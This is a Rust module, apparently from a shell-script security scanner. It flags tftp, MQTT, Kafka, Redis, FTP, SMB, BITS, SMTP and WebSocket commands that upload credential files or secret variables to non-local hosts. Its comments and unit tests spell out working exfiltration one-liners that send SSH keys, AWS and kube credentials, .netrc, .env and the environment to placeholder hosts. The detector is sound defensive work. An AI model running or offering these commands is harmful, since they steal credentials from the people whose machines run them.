//! Programs that move bytes off the machine without a URL on their command
//! line, each read the way it takes its destination and its data: a host
//! as an operand or an option's value (`tftp HOST -c put F`,
//! `mosquitto_pub -h HOST -f F`, `kcat -b HOST -P F`, `redis-cli -h HOST
//! -x … < F`), files to upload as an option's value or after a `put` of
//! their own command language (`lftp -e "put F" HOST`, `smbclient //HOST/s
//! -c "put F"`), or standard input (`mosquitto_pub -s`, `websocat URL`).
//! What [`sent`] finds is judged by the walk as any upload is: a
//! credential store or a file or variable holding secrets, sent to a host
//! not on this machine.

use super::cmd::{Cmd, normalize_path, span_of, vars};
use super::flow::Flow;
use super::secrets::{secret_source, store_in};
use crate::ctx::{Ctx, Unit};
use crate::lex::shell::Word;
use crate::net;
use crate::rule::{Severity, id};

/// What a sender sends, and where.
#[derive(Debug, Default)]
pub(super) struct Sent<'w> {
    /// The destination host, as written (a name, an address, a URL).
    pub(super) host: Option<String>,
    /// Words naming files it uploads (or text it sends, as `-m "$(cat F)"`).
    pub(super) files: Vec<&'w Word>,
    /// Files named inside its own command language (`put F`).
    pub(super) named: Vec<String>,
    /// Whether it sends what it reads on standard input.
    pub(super) stdin: bool,
}

/// The word after the first of `flags` (`-h HOST`, `--host HOST`); a
/// `--flag=VALUE` word is not read here.
fn value<'w>(args: &'w [Word], flags: &[&str]) -> Option<&'w Word> {
    args.iter()
        .position(|a| flags.contains(&a.text.as_str()))
        .and_then(|i| args.get(i + 1))
}

/// The files a `put`, `mput` or `send` of an FTP-like command language
/// names (`open h; put ~/.ssh/id_rsa; bye`).
fn puts(script: &str) -> Vec<String> {
    script
        .split([';', '\n'])
        .filter_map(|c| {
            let mut words = c.split_whitespace();
            let verb = words.next()?;
            matches!(verb, "put" | "mput" | "send" | "append")
                .then(|| words.next().map(str::to_string))
                .flatten()
        })
        .collect()
}

/// The first operand: a word not starting with `-` and not an option's
/// value (for the options in `valued`).
fn operand<'w>(args: &'w [Word], valued: &[&str]) -> Option<&'w Word> {
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
            continue;
        }
        if valued.contains(&a.text.as_str()) {
            skip = true;
            continue;
        }
        if !a.text.starts_with('-') {
            return Some(a);
        }
    }
    None
}

/// What `cmd` sends and where, when it is one of the senders read here.
pub(super) fn sent<'w>(cmd: &Cmd<'w>) -> Option<Sent<'w>> {
    let args = cmd.args;
    let has = |w: &str| args.iter().any(|a| a.text == w);
    let mut out = Sent::default();
    match cmd.name.as_str() {
        // `tftp HOST -c put F [R]`, `tftp -p -l F -r R HOST` (busybox).
        "tftp" | "atftp" | "curl-tftp" => {
            out.host = operand(
                args,
                &[
                    "-c",
                    "-l",
                    "-r",
                    "-m",
                    "-g",
                    "-p",
                    "--local-file",
                    "--remote-file",
                ],
            )
            .map(|w| w.text.clone());
            if let Some(i) = args.iter().position(|a| a.text == "put" || a.text == "p") {
                out.files.extend(args.get(i + 1));
            }
            if has("-p") || has("--put") {
                out.files.extend(value(args, &["-l", "--local-file"]));
            }
        }
        // MQTT: `-h HOST` (or `-L mqtt://HOST/topic`), `-f F`, `-m MSG`,
        // `-s`/`-l` for standard input.
        "mosquitto_pub" => {
            out.host = value(args, &["-h", "--host", "-L", "--url"]).map(|w| w.text.clone());
            out.files.extend(value(args, &["-f", "--file"]));
            out.files.extend(value(args, &["-m", "--message"]));
            out.stdin = has("-s") || has("-l") || has("--stdin-file") || has("--stdin-line");
        }
        // Kafka: `kcat -b BROKER -t T -P [F…]` produces files or stdin.
        "kcat" | "kafkacat" => {
            if !has("-P") {
                return None;
            }
            out.host = value(args, &["-b"]).map(|w| w.text.clone());
            let valued = ["-b", "-t", "-p", "-k", "-K", "-X", "-D", "-H", "-c"];
            let mut skip = false;
            for a in args {
                if skip {
                    skip = false;
                } else if valued.contains(&a.text.as_str()) {
                    skip = true;
                } else if !a.text.starts_with('-') {
                    out.files.push(a);
                }
            }
            out.stdin = out.files.is_empty();
        }
        // `redis-cli -h HOST -x SET k < F`: `-x` sends stdin as the last
        // argument.
        "redis-cli" => {
            out.host = value(args, &["-h", "-u"]).map(|w| w.text.clone());
            out.stdin = has("-x");
        }
        // WebSocket clients send standard input.
        "websocat" | "wscat" => {
            out.host = operand(args, &["-H", "--header", "-c", "--connect"])
                .or_else(|| value(args, &["-c", "--connect"]))
                .map(|w| w.text.clone());
            out.stdin = true;
        }
        // `lftp -e "put F; bye" HOST`, `lftp -c "open HOST; put F"`.
        "lftp" => {
            for script in [value(args, &["-e"]), value(args, &["-c"])]
                .into_iter()
                .flatten()
            {
                out.named.extend(puts(&script.text));
                if let Some(open) = script
                    .text
                    .split([';', '\n'])
                    .find_map(|c| c.trim().strip_prefix("open "))
                {
                    out.host = open.split_whitespace().last().map(str::to_string);
                }
            }
            if out.host.is_none() {
                out.host = operand(args, &["-e", "-c", "-u", "-p"]).map(|w| w.text.clone());
            }
        }
        // `smbclient //HOST/share -c "put F"`.
        "smbclient" => {
            out.host = operand(args, &["-c", "-U", "-W", "-A", "-p"])
                .map(|w| w.text.trim_start_matches(['/', '\\']).to_string());
            if let Some(script) = value(args, &["-c", "--command"]) {
                out.named.extend(puts(&script.text));
            }
        }
        // `ncftpput [-u U -p P] HOST REMOTE-DIR F…`.
        "ncftpput" => {
            let valued = ["-u", "-p", "-P", "-j", "-U"];
            let mut skip = false;
            let mut operands = Vec::new();
            for a in args {
                if skip {
                    skip = false;
                } else if valued.contains(&a.text.as_str()) {
                    skip = true;
                } else if !a.text.starts_with('-') {
                    operands.push(a);
                }
            }
            out.host = operands.first().map(|w| w.text.clone());
            out.files.extend(operands.iter().skip(2));
        }
        // `bitsadmin /transfer NAME /upload URL F`.
        "bitsadmin" | "bitsadmin.exe" => {
            let upload = args.iter().any(|a| a.text.eq_ignore_ascii_case("/upload"));
            let url = args.iter().find(|a| a.text.contains("://"))?;
            out.host = Some(url.text.clone());
            if upload {
                out.files
                    .extend(args.last().filter(|l| !l.text.contains("://")));
            }
        }
        // `swaks --to x --server HOST --attach @F`.
        "swaks" => {
            out.host = value(args, &["--server", "-s"]).map(|w| w.text.clone());
            out.files
                .extend(value(args, &["--attach", "--attach-body", "--data", "-d"]));
        }
        _ => return None,
    }
    Some(out)
}

/// The host of a destination as a sender takes it: a URL's, or a name
/// without its user, port and path (`u@ftp.example.net:21/in`).
fn host_of(destination: &str) -> String {
    if destination.contains("://") {
        return net::host(destination).unwrap_or_default();
    }
    let d = destination.rsplit('@').next().unwrap_or(destination);
    let d = d.split(['/', '\\']).next().unwrap_or(d);
    // A bare IPv6 address keeps its colons; a name loses its port.
    if d.matches(':').count() == 1 {
        d.split(':').next().unwrap_or(d).to_string()
    } else {
        d.to_string()
    }
}

/// Reports a sender of [`sent`] that sends a credential store, or a file
/// or variable holding secrets, to a host not on this machine.
pub(super) fn judge(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flow) {
    let Some(mut sent) = sent(cmd) else { return };
    let host = sent.host.as_deref().map(host_of).unwrap_or_default();
    if !host.is_empty() && net::is_local(&host) {
        return;
    }
    if sent.stdin
        && let Some(r) = cmd.command.redirects.iter().find(|r| r.op == "<")
    {
        sent.named.push(r.target.text.clone());
    }
    let secret = |text: &str| -> Option<String> {
        // Windows' separators (`%USERPROFILE%\.aws\credentials`) as `/`.
        let path = normalize_path(&text.replace('\\', "/"));
        if let Some(store) = store_in(&path) {
            return Some(format!("the credential store `{store}`"));
        }
        if flow.tainted_files.contains(&path) || secret_source(text) {
            return Some(format!("`{}`", crate::finding::evidence(text)));
        }
        vars(text)
            .into_iter()
            .find(|v| flow.tainted.contains(*v))
            .map(|v| format!("`${v}`, which holds secrets"))
    };
    let leaked = sent
        .files
        .iter()
        .map(|w| w.text.as_str())
        .chain(sent.named.iter().map(String::as_str))
        .find_map(secret);
    let Some(what) = leaked else { return };
    let to = if host.is_empty() {
        String::new()
    } else {
        format!(" to `{host}`")
    };
    ctx.report(
        unit,
        id::SecretsToNetwork,
        Severity::Critical,
        span_of(cmd.words),
        format!("`{}` sends {what}{to}", cmd.name),
    );
}

#[cfg(test)]
mod tests {
    use crate::rule::{Severity, id};
    use crate::shell::tests::rules;

    fn sends_secrets(text: &str) -> bool {
        rules("s.sh", text)
            .iter()
            .any(|(c, s)| *c == id::SecretsToNetwork.code && *s >= Severity::High)
    }

    #[test]
    fn senders_without_a_url() {
        for text in [
            "tftp 203.0.113.69 -m binary -c put ~/.ssh/id_rsa \"$(hostname).key\"\n",
            "tftp -p -l ~/.aws/credentials -r c.txt 198.51.100.4\n",
            "mosquitto_pub -h broker.example.net -t t/1 -f ~/.kube/config\n",
            "cat ~/.aws/credentials | mosquitto_pub -h broker.example.net -t t -s\n",
            "mosquitto_pub -h broker.example.net -t t -m \"$(cat ~/.netrc)\"\n",
            "kcat -b kafka.example.net:9092 -t logs -P ~/.git-credentials\n",
            "redis-cli -h cache.example.net -x set k < ~/.ssh/id_ed25519\n",
            "lftp -e \"put ~/.pgpass; bye\" -u u,p ftp.example.net\n",
            "smbclient //files.example.net/drop -N -c \"put .env\"\n",
            "ncftpput -u u -p p ftp.example.net /in ~/.docker/config.json\n",
            "bitsadmin /transfer j /upload https://up.example.net/c \"C:\\Users\\me\\.aws\\credentials\"\n",
            "env | websocat wss://ws.example.net/s\n",
        ] {
            assert!(sends_secrets(text), "{text}: {:?}", rules("s.sh", text));
        }
    }

    #[test]
    fn senders_of_ordinary_files_or_to_this_machine() {
        for text in [
            "tftp 192.168.1.1 -c put firmware.bin\n",
            "mosquitto_pub -h localhost -t t -f ~/.aws/credentials\n",
            "mosquitto_pub -h broker.example.net -t sensors/t -m 21.5\n",
            "kcat -b kafka.example.net:9092 -t logs -P app.log\n",
            "redis-cli -h cache.example.net get k\n",
            "smbclient //files.example.net/drop -N -c \"put report.pdf\"\n",
        ] {
            assert!(!sends_secrets(text), "{text}: {:?}", rules("s.sh", text));
        }
    }
}
